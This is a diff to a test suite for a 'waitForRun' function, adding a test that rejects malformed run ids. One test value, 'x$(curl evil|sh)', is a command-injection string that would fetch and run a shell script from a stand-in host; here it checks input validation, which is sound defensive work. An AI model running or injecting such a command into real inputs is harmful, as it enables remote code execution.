@@ -139,6 +139,17 @@ describe('waitForRun', () => {
     expect(result.run).toBeNull()
   })
 
+  it.each(['x$(curl evil|sh)', 'a b', 'r'.repeat(129)])(
+    'never takes up a run named %j, which is not an id, and never ends on it',
+    async id => {
+      const { result, calls, warnings } = await run([succeeded(id)], { timeoutMs: 5_000 })
+      expect(result.kind).toBe('timed_out')
+      expect(result.run).toBeNull()
+      expect(calls.every(c => c.runId === undefined)).toBe(true)
+      expect(warnings[0]).toContain('which is not a run id')
+    }
+  )
+
   it('treats a given run id answered with "no run" as a problem', async () => {
     const { result } = await run([neverRan()], { runId: '7', timeoutMs: 5_000 })
     expect(result.kind).toBe('timed_out')
